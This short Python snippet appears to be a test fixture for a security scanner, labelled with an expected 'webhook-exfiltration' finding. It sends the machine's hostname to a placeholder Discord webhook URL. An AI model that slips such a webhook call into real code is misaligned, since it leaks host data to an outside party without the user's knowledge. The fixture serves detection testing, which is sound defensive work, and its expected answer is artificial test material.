# expect: 3 webhook-exfiltration
import requests, platform
requests.post("https://discord.com/api/webhooks/1/a", json={"content": platform.node()})
